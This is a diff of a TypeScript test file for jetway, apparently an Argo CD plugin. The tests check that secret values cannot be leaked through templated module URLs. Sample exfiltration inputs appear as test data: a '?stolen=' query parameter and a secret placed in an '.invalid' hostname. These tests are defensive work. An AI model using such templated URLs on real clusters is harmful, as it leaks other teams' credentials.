@@ -3,23 +3,23 @@
 // admits it, and its value never shows in what jetway writes (argocd-contract.md: stderr becomes the ComparisonError).
 
 import assert from 'node:assert/strict';
-import { mkdtemp, readdir, readFile } from 'node:fs/promises';
-import { createServer } from 'node:http';
-import { tmpdir } from 'node:os';
+import { readdir, readFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { after, before, test } from 'node:test';
 import { startApiServer, type FakeApiServer } from '../support/apiserver.js';
 import { jetwayLine, startSidecar, tenantApp, type Sidecar } from '../support/sidecar.js';
 import { startHttpServer, type TestServer } from '../support/http-server.js';
 import { watModule } from '../support/wat.js';
+import { until } from '../refresher/support.js';
 
 let api: FakeApiServer;
 let sidecar: Sidecar;
 let modules: TestServer;
 
 before(async () => {
-  api = await startApiServer({ namespaces: ['team-a', 'other-team'] });
-  sidecar = await startSidecar({ 'app/README': 'an app whose module comes from a URL\n' }, { JETWAY_KUBECONFIG: api.kubeconfig() });
+  api = await startApiServer({ namespaces: ['argocd', 'team-a', 'other-team'] });
+  // refs read the cluster through jetway serve, the only holder of credentials (issue 14)
+  sidecar = await startSidecar({ 'app/README': 'an app whose module comes from a URL\n' }, {}, { api });
   const flight = await watModule('yaml-stages');
   modules = await startHttpServer((request, response) => {
     response.end(request.url?.startsWith('/flight.wasm') ? flight : 'no');
@@ -64,13 +64,15 @@ test("an app author reads another namespace's Secret through refs and sends it t
   // the admin can grant exactly that Secret; then the same Application renders. JETWAY_MODULE_ALLOW judges the URL
   // with the value filled in (this glob admits only that one expanded URL, never the template)
   const allow = `${modules.url}/flight.wasm[?]stolen=hunter2`;
-  const granted = sidecar.withEnv({ JETWAY_LOOKUP_CEILING: 'other-team/Secret:db-password', JETWAY_MODULE_ALLOW: allow });
+  // the same settings on both containers, as deploy/ sets them (serve declines a plugin container whose policy differs)
+  const granted = await startSidecar({ 'app/README': 'an app whose module comes from a URL\n' }, { JETWAY_LOOKUP_CEILING: 'other-team/Secret:db-password', JETWAY_MODULE_ALLOW: allow }, { api });
+  after(() => granted.close());
   const manifests = await granted.generate(tenantApp('granted', 'app', parameters));
   assert.equal(manifests.length, 2);
   assert.deepEqual(modules.requests, ['/flight.wasm?stolen=hunter2']);
   // the module cache indexed the filled-in URL without writing the value anywhere under JETWAY_CACHE_DIR
-  assert.ok((await readdir(join(sidecar.cacheDir, 'refs'))).length > 0, 'the URL was indexed');
-  assert.deepEqual(await filesHolding(sidecar.cacheDir, 'hunter2'), []);
+  assert.ok((await readdir(join(granted.cacheDir, 'refs'))).length > 0, 'the URL was indexed');
+  assert.deepEqual(await filesHolding(granted.cacheDir, 'hunter2'), []);
   secret('other-team', 'db-password', { password: 'hunter3' });
   await assert.rejects(granted.generate(tenantApp('granted-other-value', 'app', parameters)), (error: unknown) => {
     assert.match(jetwayLine(error), /module http:\/\/[\d.:]+\/flight\.wasm\?stolen=\{\{ \.pw \}\} is not in the allow-list \(JETWAY_MODULE_ALLOW\)/);
@@ -80,44 +82,25 @@ test("an app author reads another namespace's Secret through refs and sends it t
   assert.equal(modules.requests.length, 1);
 });
 
-/** A stand-in for jetway serve's socket that keeps the run records generate posts (what `jetway status` and Events show). */
-async function recordingSocket(): Promise<{ path: string; records: Array<Record<string, unknown>>; close(): Promise<void> }> {
-  const path = join(await mkdtemp(join(tmpdir(), 'jetway-records-')), 'jetway.sock');
-  const records: Array<Record<string, unknown>> = [];
-  const server = createServer((request, response) => {
-    const chunks: Buffer[] = [];
-    request.on('data', (c: Buffer) => chunks.push(c));
-    request.on('end', () => {
-      if (request.url === '/v1/records') records.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown>);
-      response.writeHead(request.url === '/v1/records' ? 204 : 503).end();
-    });
-  });
-  await new Promise<void>((resolve) => server.listen(path, resolve));
-  return { path, records, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
-}
-
 test("an app author puts a Secret's value in the module URL's host to read it from the ComparisonError or the run record", async () => {
   secret('team-a', 'registry-token', { token: 'S3cretT0ken' });
   const parameters = [
     { name: 'refs', map: { token: JSON.stringify({ secret: 'registry-token', key: 'token' }) } },
     { name: 'wasm', string: 'http://{{ .token }}.invalid/flight.wasm' },
   ];
-  const service = await recordingSocket();
-  try {
-    await assert.rejects(sidecar.withEnv({ JETWAY_SOCKET: service.path }).generate(tenantApp('leaker', 'app', parameters)), (error: unknown) => {
-      const line = jetwayLine(error);
-      // the resolver names the host lower-cased (getaddrinfo ENOTFOUND s3crett0ken.invalid): no form of the value may show
-      assert.doesNotMatch(line, /s3crett0ken/i);
-      assert.match(line, /^jetway: generate for Application leaker failed: cannot download module http:\/\/\{\{ \.token \}\}\.invalid\/flight\.wasm: .*\{\{ \.token \}\}\.invalid/);
-      return true;
-    });
-    assert.equal(secretReads('team-a', 'registry-token'), 1);
-    // the failed run's record (the service's status and Events) is redacted the same way
-    assert.equal(service.records.length, 1);
-    assert.equal(service.records[0]!['outcome'], 'failed');
-    assert.match(String(service.records[0]!['statusMessage']), /\{\{ \.token \}\}\.invalid/);
-    assert.doesNotMatch(JSON.stringify(service.records), /s3crett0ken/i);
-  } finally {
-    await service.close();
-  }
+  await assert.rejects(sidecar.generate(tenantApp('leaker', 'app', parameters)), (error: unknown) => {
+    const line = jetwayLine(error);
+    // the resolver names the host lower-cased (getaddrinfo ENOTFOUND s3crett0ken.invalid): no form of the value may show
+    assert.doesNotMatch(line, /s3crett0ken/i);
+    assert.match(line, /^jetway: generate for Application leaker failed: cannot download module http:\/\/\{\{ \.token \}\}\.invalid\/flight\.wasm: .*\{\{ \.token \}\}\.invalid/);
+    return true;
+  });
+  assert.equal(secretReads('team-a', 'registry-token'), 1);
+  // the failed run's record (the service's status and Events), stored by jetway serve, is redacted the same way
+  await until('the failed run is recorded', () => api.get('jetway.dev/v1alpha1', 'RunRecord', 'argocd', 'leaker') !== undefined, 10_000);
+  const record = api.get('jetway.dev/v1alpha1', 'RunRecord', 'argocd', 'leaker')!;
+  const spec = record['spec'] as Record<string, unknown>;
+  assert.equal(spec['outcome'], 'failed');
+  assert.match(String(spec['statusMessage']), /\{\{ \.token \}\}\.invalid/);
+  assert.doesNotMatch(JSON.stringify(record), /s3crett0ken/i);
 });
